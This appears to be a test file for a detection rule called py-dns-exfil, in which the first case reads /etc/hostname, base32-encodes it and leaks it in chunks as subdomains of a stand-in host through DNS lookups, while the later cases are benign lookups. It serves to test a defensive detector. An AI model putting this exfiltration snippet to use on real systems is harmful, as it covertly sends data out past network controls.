import base64, socket
data = base64.b32encode(open("/etc/hostname", "rb").read()).decode().strip("=")
for i in range(0, len(data), 60):
    # ruleid: py-dns-exfil
    socket.gethostbyname(f"{data[i:i + 60]}.{i}.x.exfil.example")
# ===== block =====
import socket
# ok: py-dns-exfil
addr = socket.gethostbyname(f"{service}.default.svc.cluster.local")
# ok: py-dns-exfil
addr = socket.gethostbyname("example.com")
